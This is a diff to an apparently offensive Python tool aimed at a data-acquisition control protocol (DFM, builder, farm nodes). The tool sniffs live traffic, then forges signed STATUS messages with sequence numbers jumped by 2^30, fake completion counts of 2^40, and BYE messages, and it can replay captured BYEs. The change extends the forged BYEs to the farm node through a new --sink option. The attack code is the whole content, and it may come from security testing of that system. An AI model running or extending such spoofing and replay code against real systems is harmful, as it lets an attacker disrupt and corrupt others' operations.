@@ -12,7 +12,8 @@ parent key, salt = subkey id little-endian, personal = the context).
           source process's, off the wire (AF_PACKET on IFACE), then sends,
           REPS times each, with the best key it holds:
             dfm_status  a DFM STATUS, seq = newest + 2^30, to the builder
-            dfm_bye     a DFM BYE to the builder and to another source
+            dfm_bye     a DFM BYE to the builder and to another source (and
+                        to the farm node, with --sink)
             sink_status a farm node's STATUS (done_total 2^40) to the builder
             own_jump    its own source's STATUS, seq = newest + 2^30, to the DFM
   replay: sends the BYEs a capture holds from SRC to DST again, from SRC
@@ -108,6 +109,7 @@ def sniff(iface, want, limit_s=30.0):
 def forge(a):
     key = load_key(a.key)
     dfm, bld, other = addr(a.dfm), addr(a.builder), addr(a.other_source)
+    bye_to = (bld, other) + ((addr(a.sink),) if a.sink else ())
     seen = sniff(a.iface, {"dfm": (dfm[1], ROLE_DFM), "own": (a.own_port, ROLE_SOURCE)})
     if len(seen) < 2:
         return {"error": "sniffed only %s" % sorted(seen)}
@@ -122,7 +124,7 @@ def forge(a):
         st = STATUS_REC.pack(1 << 20, 0, 0, 0, 0, 0, 0)
         s.sendto(seal(k_dfm, bld, msg(STATUS, ROLE_DFM, 0, de, (dseq + (1 << 30) + i) & 0xffffffff, st)), bld)
         sent["dfm_status"] += 1
-        for dst in (bld, other):
+        for dst in bye_to:
             s.sendto(seal(k_dfm, dst, msg(BYE, ROLE_DFM, 0, de, (dseq + (1 << 30) + 8 + i) & 0xffffffff)), dst)
             sent["dfm_bye"] += 1
         rec = STATUS_REC.pack(1 << 20, 0, 1 << 40, a.builder_epoch, 0, 0, 0)
@@ -190,6 +192,7 @@ def main():
     f.add_argument("--dfm", required=True)
     f.add_argument("--builder", required=True)
     f.add_argument("--other-source", required=True)
+    f.add_argument("--sink")
     f.add_argument("--own-port", type=int, default=23903)
     f.add_argument("--own-id", type=int, required=True)
     f.add_argument("--own-ids", type=int, required=True)
